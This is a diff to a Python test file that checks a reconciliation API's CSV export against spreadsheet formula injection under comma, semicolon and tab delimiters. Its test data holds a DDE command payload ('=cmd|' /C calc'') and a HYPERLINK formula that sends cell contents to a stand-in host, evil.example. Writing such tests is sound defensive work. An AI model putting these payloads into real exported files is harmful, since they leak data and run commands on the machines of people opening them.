@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import uuid
 from datetime import UTC, datetime
 
@@ -210,12 +211,45 @@ class TestMarkingInvalidTwice:
         ("@SUM(A1)", "'@SUM(A1)"),
         ("-", "'-"),
         (None, ""),
+        # where a ';' or tab reader starts a cell (a ',' file's quotes do not hold there)
+        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
+        ('a;"=1+1"', 'a;"\'=1+1"'),
+        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
+        ("a\r\n+1", "a\r\n'+1"),
+        (";\t=x", ";'\t'=x"),
+        ("a=b;c-d", "a=b;c-d"),
     ],
 )
 def test_csv_cells_quote_formulas_not_numbers(value, cell):
     from api.routes.reports import _cell
 
     assert _cell(value) == cell
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_the_csv_starts_a_formula_in_any_locale(world: World, delimiter: str) -> None:
+    """A spreadsheet whose list separator is ';' opens a ',' file by splitting at each ';',
+    and its quotes no longer line up: an order id's '=...' after a ';' began a cell there."""
+    order_id = 'ord;=HYPERLINK("http://evil.example/?"&A1);"@SUM(1)"\t+cmd'
+    assert create(world, world.a.merchant, order_id=order_id).status_code == 200
+    h = auth(world.a.merchant)
+    rows = world.client.get("/v1/reconciliation", params=PERIOD, headers=h).json()["data"]
+    assert order_id in {r["order_id"] for r in rows}  # JSON keeps the exact text
+    text = world.client.get(
+        "/v1/reconciliation", params={**PERIOD, "format": "csv"}, headers=h
+    ).text
+    for reader in (
+        csv.reader(io.StringIO(text), delimiter=delimiter),  # honours quotes
+        ([field] for line in text.splitlines() for field in line.split(delimiter)),  # does not
+    ):
+        for row in reader:
+            for field in row:
+                cell = field.lstrip('"')
+                if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?[0-9.]+", cell):
+                    raise AssertionError(f"{delimiter!r} reader starts a formula: {cell!r}")
 
 
 class TestFollowUpColumn:
